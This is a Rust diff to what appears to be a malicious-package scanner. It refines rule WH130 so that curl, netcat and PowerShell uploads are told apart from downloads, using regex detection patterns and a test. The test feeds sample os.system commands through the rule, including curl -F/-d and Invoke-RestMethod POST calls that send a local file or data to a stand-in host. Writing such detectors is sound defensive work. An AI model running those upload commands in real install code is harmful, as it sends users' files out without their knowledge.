@@ -205,18 +205,16 @@ pub fn check_tool_call(checker: &mut Checker, call: &ExprCall, command: &str) {
     let Some(tool) = super::process_spawn::network_tool(command) else {
         return;
     };
-    let upload = [
-        " -F",
-        " -d",
-        " --data",
-        " -T",
-        " --upload-file",
-        " --post",
-        "-Method Post",
-    ]
-    .iter()
-    .any(|flag| command.contains(flag))
-        || tool == "netcat";
+    static CURL_UPLOAD: std::sync::LazyLock<regex::Regex> = crate::static_regex!(
+        r#"\s(-[FdT]|--data[a-z-]*|--form|--upload-file|--post-(data|file))(\s|=|"|')"#
+    );
+    static POWERSHELL_UPLOAD: std::sync::LazyLock<regex::Regex> =
+        crate::static_regex!(r"(?i)\s-(method\s+(post|put)|infile|body)\b");
+    let upload = match tool {
+        "netcat" => true,
+        "PowerShell" => POWERSHELL_UPLOAD.is_match(command),
+        _ => CURL_UPLOAD.is_match(command),
+    };
     let context = checker.context();
     let severity = match (context, upload) {
         (ExecContext::Install, true) => 0.6,
@@ -306,6 +304,25 @@ mod tests {
         assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.5);
         let plain = "import http.client\ndef send(d):\n    c = http.client.HTTPSConnection('collect.example.invalid')\n    c.request('POST', '/', d)\n";
         assert!(max_severity("p/pkg/m.py", plain, "WH130") < 0.1);
+    }
+
+    #[test]
+    fn tool_uploads_are_told_from_downloads() {
+        let send = |command: &str| {
+            let code = format!("import os\nos.system({command:?})\n");
+            crate::rules::testing::findings("p/setup.py", &code)
+                .iter()
+                .any(|f| f.rule == "WH130" && f.has_tag("net-send"))
+        };
+        assert!(send("curl -k -F \"file=@/tmp/a.zip\" https://x.invalid/u"));
+        assert!(send("curl -d @data https://x.invalid/u"));
+        assert!(!send("curl -fsSL -o out https://x.invalid/a"));
+        assert!(!send(
+            "powershell Invoke-WebRequest -Uri https://x.invalid/a.zip -OutFile a.zip; Expand-Archive -Force a.zip"
+        ));
+        assert!(send(
+            "powershell Invoke-RestMethod -Uri https://x.invalid -Method Post -Body $d"
+        ));
     }
 
     #[test]
